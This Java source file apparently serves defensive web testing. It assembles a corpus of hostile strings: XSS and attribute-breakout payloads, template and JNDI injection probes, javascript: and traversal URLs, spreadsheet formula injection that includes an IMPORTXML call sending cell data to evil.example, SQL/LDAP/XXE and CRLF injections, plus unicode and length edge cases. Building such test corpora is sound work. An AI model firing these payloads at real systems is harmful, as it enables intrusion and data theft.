package dateline.web;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;

/**
 * Strings that have broken other programs' pages, made by kind: whatever runs sets {@code
 * window.hacked}.
 */
final class HostileStrings {
  private static final String RUN = "window.hacked=1";

  private HostileStrings() {}

  static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    all.addAll(scripts());
    all.addAll(attributes());
    all.addAll(pictures());
    all.addAll(templates());
    all.addAll(addresses());
    all.addAll(formulas());
    all.addAll(queries());
    all.addAll(controls());
    all.addAll(directions());
    all.addAll(marks());
    all.addAll(lengths());
    all.addAll(signs());
    return List.copyOf(all);
  }

  /** Each of the endings a page may be in when the string comes, before each of the tags. */
  private static List<String> scripts() {
    List<String> all = new ArrayList<>();
    for (String out :
        List.of(
            "", "\">", "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>")) {
      for (String tag :
          List.of(
              "<script>" + RUN + "</script>",
              "<ScRiPt>" + RUN + "</sCrIpT>",
              "<script/x>" + RUN + "</script >",
              "<script src=data:," + RUN + "></script>",
              "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
              "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>",
              "<body onload=" + RUN + ">",
              "<style>*{display:none}</style>",
              "<base href=//evil.example/>",
              "<meta http-equiv=refresh content='0;url=//evil.example/'>")) {
        all.add(out + tag);
      }
    }
    all.add("&lt;script&gt;" + RUN + "&lt;/script&gt;");
    all.add("&#60;script&#62;" + RUN + "&#60;/script&#62;");
    all.add("\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e");
    all.add("+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-");
    all.add("<!--<script>" + RUN + "//-->");
    all.add("<![CDATA[<script>" + RUN + "</script>]]>");
    all.add("<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">");
    all.add("<plaintext>");
    all.add("<table><tr><td></main></body></html>");
    all.add("</div></div></div></section></main><footer>");
    return all;
  }

  private static List<String> attributes() {
    List<String> all = new ArrayList<>();
    for (String quote : List.of("\"", "'", "`", "\" ", "' ", "\t")) {
      for (String event :
          List.of(
              "onmouseover",
              "onfocus",
              "onerror",
              "onclick",
              "onload",
              "onanimationstart",
              "ontoggle",
              "onpointerenter")) {
        all.add(quote + event + "=" + RUN + " autofocus x=" + quote);
      }
      all.add(quote + " style=" + quote + "position:fixed;inset:0;background:red" + quote);
      all.add(quote + " href=" + quote + "javascript:" + RUN);
      all.add(quote + " hx-get=" + quote + "//evil.example/" + quote + " hx-trigger=load");
      all.add(quote + " hx-on:load=" + quote + RUN);
      all.add(quote + " data-cards=" + quote + "q");
    }
    return all;
  }

  private static List<String> pictures() {
    List<String> all = new ArrayList<>();
    for (String tag :
        List.of("img", "image", "video", "audio", "input type=image", "object", "embed", "link")) {
      all.add("<" + tag + " src=x href=x data=x onerror=" + RUN + ">");
      all.add("<" + tag + "/src=x/onerror=" + RUN + ">");
    }
    for (String inner :
        List.of(
            "<script>" + RUN + "</script>",
            "<animate onbegin=" + RUN + " attributeName=x>",
            "<set attributeName=href to=javascript:" + RUN + ">",
            "<foreignObject><iframe src=javascript:" + RUN + "></iframe></foreignObject>",
            "<use href='data:image/svg+xml,<svg id=x><script>" + RUN + "</script></svg>#x'/>",
            "<a href=javascript:" + RUN + "><text>x</text></a>")) {
      all.add("<svg>" + inner + "</svg>");
      all.add("<svg onload=" + RUN + ">" + inner);
      all.add("<math><mtext>" + inner + "</mtext></math>");
    }
    all.add("<math href=javascript:" + RUN + ">x</math>");
    all.add("<details open ontoggle=" + RUN + ">");
    all.add("<marquee onstart=" + RUN + ">");
    return all;
  }

  private static List<String> templates() {
    return List.of(
        "${7*7}",
        "#{7*7}",
        "{{7*7}}",
        "{{constructor.constructor('" + RUN + "')()}}",
        "<%= 7*7 %>",
        "@if(true)",
        "@endif",
        "@for(var x : y)",
        "!{var x = 1}",
        "$unsafe{\"<b>\"}",
        "@raw <b> @endraw",
        "@import java.io.File",
        "@param String x",
        "@`<b>`",
        "@template.layout()",
        "[[${7*7}]]",
        "*{7*7}",
        "{%25 raw %25}",
        "{# comment #}",
        "<?php echo 1 ?>",
        "${jndi:ldap://x}",
        "%s%s%n%d",
        "%x%x%x",
        "{0}{1}",
        "$HOME",
        "`id`",
        "$(id)",
        "\\n\\t\\0",
        "__proto__",
        "constructor",
        "toString",
        "undefined",
        "null",
        "NaN",
        "Infinity",
        "true",
        "None");
  }

  private static List<String> addresses() {
    List<String> all = new ArrayList<>();
    for (String scheme :
        List.of(
            "javascript:",
            "JaVaScRiPt:",
            " javascript:",
            "java\tscript:",
            "java\nscript:",
            "\u0001javascript:",
            "javascript&colon;",
            "vbscript:",
            "data:text/html,",
            "livescript:",
            "view-source:javascript:",
            "feed:javascript:")) {
      all.add(scheme + RUN);
      all.add(scheme + "//%0a" + RUN);
    }
    all.addAll(
        List.of(
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
            "file:///etc/passwd",
            "//evil.example/x",
            "\\\\evil.example\\x",
            "http://evil.example@127.0.0.1/",
            "https://evil.example/\"onclick=" + RUN,
            "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%00",
            "%",
            "%zz",
            "?x=1&y=2#z",
            "#:~:text=x",
            "blob:null/1",
            "about:blank",
            "mailto:a@b?subject=x\r\nBcc: c@d"));
    return all;
  }

  private static List<String> formulas() {
    List<String> all = new ArrayList<>();
    for (String start : List.of("=", "+", "-", "@", "\t=", "\r=", " =", "＝")) {
      all.add(start + "1+1");
      all.add(start + "cmd|' /C calc'!A0");
      all.add(start + "HYPERLINK(\"http://evil.example\",\"x\")");
      all.add(start + "IMPORTXML(CONCAT(\"//evil.example\",A1),\"//a\")");
    }
    return all;
  }

  private static List<String> queries() {
    return List.of(
        "' OR '1'='1",
        "'; DROP TABLE facts;--",
        "\" OR \"\"=\"",
        "1;SELECT pg_sleep(9)",
        "' UNION SELECT NULL--",
        "*)(uid=*))(|(uid=*",
        "type:count OR",
        "(((((",
        ")))))",
        "AND OR NOT",
        "\"unclosed",
        "field:value",
        "value:>=",
        "[1 TO",
        "a~99",
        "*",
        "?*?*",
        "\\",
        "\\\\\"",
        "-",
        "--",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "&amp;&lt;&quot;&#39;",
        "&",
        "&;",
        "&copy",
        "<",
        ">",
        "\"",
        "'",
        "`",
        "</",
        "<>",
        "< script",
        "<3",
        "a<b>c",
        "{\"a\":1}",
        "[]",
        "\",\"b\":\"",
        "];alert(1);[",
        "\r\nSet-Cookie: a=b",
        "\r\n\r\n<script>" + RUN + "</script>");
  }

  /** Every control character and every separator, in words. */
  private static List<String> controls() {
    List<String> all = new ArrayList<>();
    IntStream.range(0, 32).forEach(c -> all.add("be" + (char) c + "fore" + (char) c));
    for (char c :
        new char[] {
          '\u007f', '\u0085', '\u00a0', '\u00ad', '\u1680', '\u180e', '\u2028', '\u2029', '\u200b',
          '\u200c', '\u200d', '\u2060', '\ufeff', '\ufffd', '\ufffe', '\uffff', '\ud800', '\udfff'
        }) {
      all.add("be" + c + "fore" + c);
    }
    return all;
  }

  private static List<String> directions() {
    List<String> all = new ArrayList<>();
    for (char c :
        new char[] {
          '\u200e', '\u200f', '\u061c', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066',
          '\u2067', '\u2068', '\u2069'
        }) {
      all.add(c + "left to right, (1) [2] {3}");
      all.add("abc " + String.valueOf(c).repeat(3) + " 12 > 3");
    }
    all.addAll(
        List.of(
            "مرحبا بالعالم 123 (abc)",
            "שלום עולם 1,234",
            "abc مرحبا def שלום ghi",
            "\u202egpj.exe",
            "پرونده‌ها",
            "ދިވެހި",
            "ܣܘܪܝܝܐ"));
    return all;
  }

  private static List<String> marks() {
    List<String> all = new ArrayList<>();
    for (int depth : new int[] {1, 5, 20, 60}) {
      all.add("Z" + "\u0351\u0323".repeat(depth) + "a" + "\u0336\u0315".repeat(depth) + "lgo");
      all.add("\u0e01" + "\u0e49".repeat(depth) + "ไทย");
      all.add("\u0315".repeat(depth));
    }
    all.addAll(
        List.of(
            "ﷺﷺﷺﷺ",
            "𒐫𒐫𒐫𒐫",
            "꧅꧅꧅",
            "⸻⸻⸻⸻",
            "༒༒",
            "ŢĦĘ ǪŰĬĆĶ",
            "ⓣⓗⓔ",
            "ｆｕｌｌ",
            "🅱🅾🆇",
            "İıſK",
            "ß ﬁ ŉ",
            "Ⅷ ½ ² ₂",
            "ﬃ",
            "Å Å Å"));
    return all;
  }

  private static List<String> lengths() {
    List<String> all = new ArrayList<>();
    for (String letters :
        List.of("a", "W", "i", "中", "🦑", "-", "_", ".", "/", "&", "<", "\u00ad")) {
      all.add(letters.repeat(600));
    }
    all.add("https://example.org/" + "path/".repeat(150));
    all.add("word ".repeat(300));
    all.add("Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft");
    all.add("9".repeat(400));
    return all;
  }

  private static List<String> signs() {
    return List.of(
        "👩‍👩‍👧‍👦👩‍👩‍👧‍👦",
        "🏳️‍🌈🏴‍☠️",
        "🇪🇨🇳🇪🇺",
        "👋🏽👋🏿",
        "❤️",
        "🫠",
        "☠",
        "1️⃣2️⃣",
        "😀".repeat(80),
        "\uD83D",
        "\uDE00",
        "㊗️",
        "\uDB40\uDC61",
        "１２３",
        "٤٥٦",
        "一二三",
        "-1",
        "1e999",
        "0x10",
        "1,2.3,4",
        "１/２",
        "2026-13-45",
        "2026-02-30T25:61",
        "0000-00-00",
        "-0001-01-01",
        "99999-01-01",
        "12:00 AM PM");
  }
}
